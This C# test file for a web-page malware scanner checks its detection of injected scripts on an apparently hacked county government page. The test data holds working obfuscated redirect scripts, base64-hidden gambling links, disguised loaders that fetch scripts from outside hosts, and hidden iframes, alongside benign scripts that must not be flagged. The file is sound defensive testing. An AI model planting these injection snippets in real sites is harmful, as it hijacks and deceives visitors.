using System.Text;
using Scanner.Core.Analyzers;
using Scanner.Core.Loading;
using Scanner.Core.Model;
using Scanner.Core.Rules;

namespace Scanner.Core.Tests.Analyzers;

/// <summary>
/// Issue 14, items 5 and 7: the inline scripts of the blind set of hacked pages (written by someone who never saw this
/// code) that the static engine missed, and variants of each evasion class — a redirect to another site behind a test of
/// the visitor with a URL built at run time, escaped property names, base64 → bytes → TextDecoder → document.write,
/// and a tiny frame a script makes — on snapshots the static engine's builder makes, with the shipped rules. Beside them,
/// what must stay below high: a site's own mobile redirect, a referrer check that stays on the site, analytics loaders,
/// a map frame made by a script.
/// </summary>
public sealed class BlindSetScriptTests
{
    private static readonly RuleSet Shipped = RuleSetLoader.Load(new RuleSources { RulePaths = [RuleSetLoader.DefaultRulesDirectory] });
    private const string Url = "http://www.qingshan.gov.cn/zwgk/tzgg/index.html";

    private static List<Finding> Analyze(string script)
    {
        var html = "<!DOCTYPE html><html lang=\"zh-CN\"><head><meta charset=\"utf-8\"><title>通知公告_青山县人民政府</title></head><body>"
            + "<div class=\"top\">青山县人民政府</div><ul class=\"list\"><li><a href=\"/zwgk/1.html\">关于做好冬季森林防火工作的通知</a></li></ul>"
            + $"<script type=\"text/javascript\">{script}</script></body></html>";
        var page = StaticSnapshotBuilder.Build(html, new Uri(Url), new PageSnapshot { RequestedUrl = Url, FinalUrl = Url, Status = 200 });
        return new PageAnalysis(PageAnalysis.DefaultAnalyzers, Shipped).Analyze(page).ToList();
    }

    private static string Describe(IEnumerable<Finding> findings) =>
        string.Join("\n", findings.Select(f => $"  {f.Severity} {f.RuleId} {f.Evidence.Split('\n')[0]} — {string.Join("; ", f.Reasons)}"));

    private static Finding Expect(List<Finding> findings, string rule, Severity atLeast)
    {
        var found = findings.Where(f => f.RuleId == rule && f.Severity >= atLeast).ToList();
        Assert.True(found.Count > 0, $"expected {rule} at {atLeast} or above; got:\n{Describe(findings)}");
        return found[0];
    }

    private static string Hex(string s) => string.Concat(s.Select(c => $"\\x{(int)c:x2}"));

    public static TheoryData<string, string, string> Redirects => new()
    {
        // 1. a phone test, the URL built by concatenation, location.replace(variable) in a timer
        { "var ua=navigator.userAgent;if(/(iPhone|iPod|Android|ios|Mobile|UCBrowser|MQQBrowser)/i.test(ua)){var u=\"ht\"+\"tps://\"+\"m.9159jsc\"+\".vip/r/8a7c\";setTimeout(function(){location.replace(u)},10);}",
          "m.9159jsc.vip", "for a mobile device" },
        // 2. time zone and language, the URL built by [...].join("/"), top.location.href
        { "try{var z=Intl.DateTimeFormat().resolvedOptions().timeZone,l=(navigator.language||\"\").toLowerCase();\n"
          + "if((z==\"Asia/Shanghai\"||z==\"Asia/Chongqing\"||z==\"Asia/Urumqi\")&&l.indexOf(\"zh\")==0&&!/bot|spider|crawl/i.test(navigator.userAgent)){top.location.href=[\"https:\",\"\",\"www.kyty\"+\"8866.vip\",\"?c=12\"].join(\"/\");}}catch(e){}",
          "www.kyty8866.vip", "the time zone" },
        // 3. escaped property names and URL, delayed
        { $"setTimeout(function(){{var a=[\"{Hex("location")}\",\"{Hex("href")}\"];window[a[0]][a[1]]=\"{Hex("https://www.js7989.cc/?id=728")}\";}},1200);",
          "www.js7989.cc", "every visitor" },
        // variants of the class: getTimezoneOffset and a referrer from a search engine, the URL from an array joined with "".
        { "var r=document.referrer,o=new Date().getTimezoneOffset();if(o==-480&&/baidu|sogou|so\\.com|sm\\.cn/.test(r)){var p=[\"ht\",\"tp:\",\"//\",\"www.\",\"bc5x9\",\".com\",\"/\"];location.assign(p.join(\"\"));}",
          "www.bc5x9.com", "the referrer" },
        // only on a first visit (a cookie), the host reversed
        { "if(document.cookie.indexOf(\"_vt=\")<0){document.cookie=\"_vt=1;path=/\";var h=\"moc.7k9ff88.www\".split(\"\").reverse().join(\"\");window.location=\"http://\"+h+\"/\";}",
          "www.88ff9k7.com", "a cookie" },
        // a phone test behind matchMedia and touch, the target in a variable set by a function
        { "function t(){return String.fromCharCode(104,116,116,112,58,47,47)+'m.yh'+(2*3)+'6x.top/';}if('ontouchstart' in window&&window.matchMedia('(max-width: 768px)').matches){window.location.href=t();}",
          "m.yh66x.top", "a phone in China" },
        // the whole test in an eval'd function, property names in \x escapes, the target from character codes
        { "eval(function(){var r=document[\"\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72\"];var k=[\"\\x62\\x61\\x69\\x64\\x75\",\"\\x73\\x6f\\x67\\x6f\\x75\"];for(var i=0;i<k.length;i++){if(r.indexOf(k[i])!=-1){window[\"\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e\"][\"\\x68\\x72\\x65\\x66\"]=String.fromCharCode(104,116,116,112,115,58,47,47,119,119,119,46,107,57,120,55,51,46,99,111,109,47);}}}())",
          "www.k9x73.com", "the referrer" },
        // the location's name from character codes, the target from character codes, after a delay, for every visitor
        { "var u=String.fromCharCode(104,116,116,112,58,47,47,119,55,55,50,98,46,99,99,47);setTimeout(function(){window[String.fromCharCode(108,111,99,97,116,105,111,110)]=u},800);",
          "w772b.cc", "every visitor" },
        // names and referrer test from split strings held in variables: window[_l][_h]=…
        { "var p1='ht',p2='tp://',p3='www.',p4='5'+'81k2',p5='.net';var _l='lo'+'ca'+'ti'+'on',_h='hr'+'ef';if(document['re'+'ferr'+'er'].match(/(bai)(du)|(sog)(ou)/i)){window[_l][_h]=p1+p2+p3+p4+p5;}",
          "www.581k2.net", "the referrer" },
        // only at night (22:00–07:00) and from a link: the visitors come late in the evening and in the small hours
        { "var h=new Date().getHours();if((h>=22||h<7)&&document.referrer!=\"\"){setTimeout(function(){top.location.href=\"ht\"+\"tps://www.q\"+\"88\"+\"x7.com/\"},900)}",
          "www.q88x7.com", "the hour of the day" },
        // only in the evening, China time, Chinese browser: the target from atob
        { "!function(){var z=Intl.DateTimeFormat().resolvedOptions().timeZone;if(z==\"Asia/Shanghai\"&&navigator.language.indexOf(\"zh\")==0){var h=new Date().getHours();if(h>=20||h<5){location.replace(atob(\"aHR0cHM6Ly93d3cuazd4OTNxLmNvbS9yP2M9OA==\"));}}}();",
          "www.k7x93q.com", "the hour of the day" },
    };

    [Theory]
    [MemberData(nameof(Redirects))]
    public void A_redirect_to_another_site_built_at_run_time_is_critical_on_the_static_engine(string script, string host, string reason)
    {
        var findings = Analyze(script);
        var finding = Expect(findings, RedirectAnalyzer.CrossDomainRule, Severity.Critical);
        Assert.Equal(host, finding.MatchedTerm);
        Assert.Contains(finding.Reasons, r => r.Contains(reason, StringComparison.Ordinal));
    }

    [Fact]
    public void A_base64_payload_decoded_through_bytes_and_TextDecoder_that_writes_hidden_links_is_critical()
    {
        var block = "<div id=\"ad_gg\" style=\"position:fixed;left:-3000px\">"
            + string.Join("", new[] { ("xpj5825.com", "新葡京娱乐"), ("www.bet9k7.com", "澳门百家乐"), ("www.hg0088x.net", "皇冠体育"), ("www.js8k2x.com", "金沙娱乐城") }
                .Select(l => $"<a href=\"http://{l.Item1}/\">{l.Item2}</a>")) + "</div>";
        var b64 = Convert.ToBase64String(Encoding.UTF8.GetBytes(block));
        var findings = Analyze("(function(s){var b=atob(s),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);"
            + $"document.write(new TextDecoder(\"utf-8\").decode(u));}})(\"{b64}\")");
        var finding = Expect(findings, ScriptInjectionAnalyzer.WritesLinksRule, Severity.Critical);
        Assert.Contains("xpj5825.com", finding.MatchedTerm);
    }

    [Fact]
    public void A_short_base64_payload_passed_to_atob_through_a_variable_is_read_without_running_it()
    {
        // Under 200 characters: no opaque literal, so the emulator's gate does not send it; the decoder reads it.
        var b64 = Convert.ToBase64String(Encoding.UTF8.GetBytes("<a href=\"http://www.k3j8x9.com/\" style=\"display:none\">百家乐</a>"));
        Assert.True(b64.Length < 200);
        var findings = Analyze($"var s=\"{b64}\";document.write(decodeURIComponent(escape(atob(s))));");
        var finding = Expect(findings, ScriptInjectionAnalyzer.WritesLinksRule, Severity.Critical);
        Assert.Contains("www.k3j8x9.com", finding.MatchedTerm);
    }

    private static string Codes(string s) => string.Join(",", s.Select(c => (int)c));

    private static List<Finding> AnalyzeBody(string bodyAttributes, string inner)
    {
        var html = $"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>青山县人民政府</title></head><body{bodyAttributes}>"
            + $"<div class=\"top\">青山县人民政府</div>{inner}</body></html>";
        var page = StaticSnapshotBuilder.Build(html, new Uri(Url), new PageSnapshot { RequestedUrl = Url, FinalUrl = Url, Status = 200 });
        return new PageAnalysis(PageAnalysis.DefaultAnalyzers, Shipped).Analyze(page).ToList();
    }

    [Fact]
    public void A_referrer_redirect_in_a_load_handler_attribute_is_critical_and_a_click_handler_is_not_read()
    {
        var onload = Expect(AnalyzeBody(" onload=\"if(document.referrer.indexOf('baidu')>-1){window.location.href='http://www.hq7x2k.com/'}\"", ""),
            RedirectAnalyzer.CrossDomainRule, Severity.Critical);
        Assert.Equal("body[onload]", onload.Selector);
        Expect(AnalyzeBody("", "<img src=\"/none.gif\" style=\"display:none\" onerror=\"if(/baidu|sogou/.test(document.referrer))location.replace('https://www.kq83x.com/')\">"),
            RedirectAnalyzer.CrossDomainRule, Severity.Critical);
        Assert.DoesNotContain(AnalyzeBody("", "<button onclick=\"window.location.href='https://www.partner-portal.example.com/'\">办事大厅</button>"),
            f => f.RuleId == RedirectAnalyzer.CrossDomainRule);
    }

    [Fact]
    public void A_load_handler_after_another_handler_of_the_same_tag_is_read_and_text_that_only_looks_like_one_is_not()
    {
        // A fallback image's harmless onerror first, the redirect in its onload after it.
        var second = Expect(AnalyzeBody("", "<img src=\"/logo.gif\" onerror=\"this.style.display='none'\" onload=\"if(document.referrer.indexOf('baidu')>-1)location.replace('https://www.kq83x.com/')\">"),
            RedirectAnalyzer.CrossDomainRule, Severity.Critical);
        Assert.Equal("img[onload]", second.Selector);
        // The same words in a paragraph (a tutorial about handlers) are text, not an attribute.
        Assert.DoesNotContain(AnalyzeBody("", "<p>Avoid code like onload=\"if(document.referrer.indexOf('baidu')>-1)location.replace('https://www.kq83x.com/')\" in pages.</p>"),
            f => f.RuleId == RedirectAnalyzer.CrossDomainRule);
    }

    [Fact]
    public void A_short_loader_that_hides_only_the_host_of_the_script_it_loads_is_high()
    {
        // The WordPress injections' shape: the code says what it does, the host is character codes or escapes.
        string Loader(string url) => $"var s=document.createElement('script');s.src=String.fromCharCode({Codes(url)});document.getElementsByTagName('head')[0].appendChild(s);";
        var finding = Expect(Analyze(Loader("https://cdn.k3xq-stat.com/s/analytics.js?ver=6.4.2")), ScriptInjectionAnalyzer.ObfuscatedRule, Severity.High);
        Assert.Contains(finding.Reasons, r => r.Contains("loads a script from another host (cdn.k3xq-stat.com)", StringComparison.Ordinal));
        var escaped = $"var e=document['createElement']('script');e['\\x73\\x72\\x63']='{Hex("https://js.q8stat-cdn.com/static/js/loader.min.js?ver=5.3.2")}';document.body.appendChild(e);";
        Expect(Analyze(escaped), ScriptInjectionAnalyzer.ObfuscatedRule, Severity.High);
        // The same loader for a well-known analytics service is no injection.
        Assert.DoesNotContain(Analyze(Loader("https://hm.baidu.com/hm.js?0a1b2c3d4e5f60718293a4b5c6d7e8f9")), f => f.Severity >= Severity.High);
    }

    [Fact]
    public void An_XMLHttpRequest_whose_answer_handler_is_set_before_open_and_writes_it_is_found()
    {
        var findings = Analyze("var x=window.XMLHttpRequest?new XMLHttpRequest():new ActiveXObject(\"Microsoft.XMLHTTP\");"
            + "x.onreadystatechange=function(){if(x.readyState==4&&x.status==200){document.getElementById(\"fl\").innerHTML=x.responseText;}};"
            + "x.open(\"GET\",\"http://www.q7k2x.com/links.asp?u=\"+escape(document.URL),true);x.send(null);");
        Assert.Equal("www.q7k2x.com", Expect(findings, ScriptInjectionAnalyzer.FetchesMarkupRule, Severity.High).MatchedTerm);
    }

    [Fact]
    public void A_phone_redirect_to_the_mobile_host_of_a_name_without_a_word_is_critical()
    {
        var finding = Expect(Analyze("if(/Android|iPhone|iPod/i.test(navigator.userAgent)){top.location.href=\"https://m.x7kqt4.com/\";}"),
            RedirectAnalyzer.CrossDomainRule, Severity.Critical);
        Assert.Equal("m.x7kqt4.com", finding.MatchedTerm);
    }

    [Fact]
    public void A_script_that_fetches_links_from_a_url_kept_in_a_variable_and_writes_them_is_found()
    {
        var findings = Analyze("var u=\"ht\"+\"tp://www.k8x79s.com/\"+\"links.html\";fetch(u).then(function(r){return r.text()})"
            + ".then(function(h){document.getElementById(\"yqlj\").innerHTML=h});");
        var finding = Expect(findings, ScriptInjectionAnalyzer.FetchesMarkupRule, Severity.Critical);
        Assert.Equal("www.k8x79s.com", finding.MatchedTerm);
    }

    [Theory]
    [InlineData("var i=document.createElement(\"iframe\");i.src=\"http://www.520av34.cc/\";i.width=1;i.height=1;i.style.visibility=\"hidden\";document.body.appendChild(i);", "www.520av34.cc")]
    [InlineData("var f=document.createElement('iframe');f.setAttribute('src','ht'+'tp://www.qp88x7.com/');f.style.cssText='width:0;height:0;border:0';document.body.appendChild(f);", "www.qp88x7.com")]
    [InlineData("document.write('<ifr'+'ame src=\"http://www.6k8x9.net/\" width=\"0\" height=\"0\" frameborder=\"0\"></ifr'+'ame>');", "www.6k8x9.net")]
    public void A_hidden_or_tiny_frame_a_script_makes_for_a_random_looking_site_is_high(string script, string host)
    {
        var findings = Analyze(script);
        var finding = Expect(findings, RedirectAnalyzer.HiddenFrameRule, Severity.High);
        Assert.Equal(host, finding.MatchedTerm);
        Assert.Contains(finding.Reasons, r => r.Contains("runs letters into a number", StringComparison.Ordinal));
        Assert.True(finding.Hidden);
    }

    [Fact]
    public void A_hidden_frame_a_script_makes_for_an_ordinary_name_is_medium()
    {
        var findings = Analyze("var i=document.createElement('iframe');i.src='https://www.partner-stats.com/sync';i.style.display='none';document.body.appendChild(i);");
        Assert.Equal(Severity.Medium, Assert.Single(findings, f => f.RuleId == RedirectAnalyzer.HiddenFrameRule).Severity);
    }

    public static TheoryData<string> StayBelowHigh => new()
    {
        // the site's own mobile edition, literal and computed from the page's host
        "if(/Android|iPhone|iPod/i.test(navigator.userAgent)){location.href='https://m.qingshan.gov.cn/';}",
        "if(/Android|iPhone|iPod|Mobile/i.test(navigator.userAgent)){var h=location.hostname.replace(/^www\\./,'');location.replace('https://m.'+h+location.pathname);}",
        // a referrer check that stays on the site
        "var r=document.referrer;if(r.indexOf('baidu.com')>-1||r.indexOf('so.com')>-1){setTimeout(function(){location.href=location.protocol+'//'+location.host+'/special/index.html';},10);}",
        // a language switch to the site's English pages
        "if((navigator.language||navigator.userLanguage).toLowerCase().indexOf('en')==0&&document.cookie.indexOf('lang=')<0){document.cookie='lang=en';location.href='/en/index.html';}",
        // Baidu analytics and the Baidu push loader, Google Analytics
        "var _hmt=_hmt||[];(function(){var hm=document.createElement(\"script\");hm.src=\"https://hm.baidu.com/hm.js?0a1b2c3d4e5f60718293a4b5c6d7e8f9\";var s=document.getElementsByTagName(\"script\")[0];s.parentNode.insertBefore(hm,s);})();",
        "(function(){var bp=document.createElement('script');var curProtocol=window.location.protocol.split(':')[0];if(curProtocol==='https'){bp.src='https://zz.bdstatic.com/linksubmit/push.js';}else{bp.src='http://push.zhanzhang.baidu.com/push.js';}var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(bp,s);})();",
        "(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');ga('create','UA-12345-1','auto');ga('send','pageview');",
        // a map frame and a video frame a script makes
        "var f=document.createElement('iframe');f.src='https://map.baidu.com/?latlng=28.1,112.9&title=青山县人民政府';f.width='100%';f.height=420;f.frameBorder=0;document.getElementById('map').appendChild(f);",
        "var v=document.createElement('iframe');v.src='https://player.youku.com/embed/XNDk1';v.style.width='640px';v.style.height='360px';document.body.appendChild(v);",
        // a search box that goes to the national portal's search on a click
        "document.getElementById('sbtn').onclick=function(){var q=document.getElementById('kw').value;window.location.href='https://sousuo.www.gov.cn/sousuo/search.shtml?code=17da70961a7&searchWord='+encodeURIComponent(q);};",
        // a partner site opened from a click, its URL built: may never run (read from the text, and when run)
        "document.getElementById('go').addEventListener('click',function(){location.href='http://'+'www.hnzwfw'+'.example.com/';});",
        "document.getElementById('go').addEventListener('click',function(){var h=['www','partner-x9k7','com'].join('.');location.href=['http:','',h,''].join('/');});",
    };

    [Theory]
    [MemberData(nameof(StayBelowHigh))]
    public void Own_site_redirects_analytics_loaders_and_map_frames_stay_below_high(string script)
    {
        var findings = Analyze(script);
        Assert.True(findings.All(f => f.Severity < Severity.High), Describe(findings));
    }
}
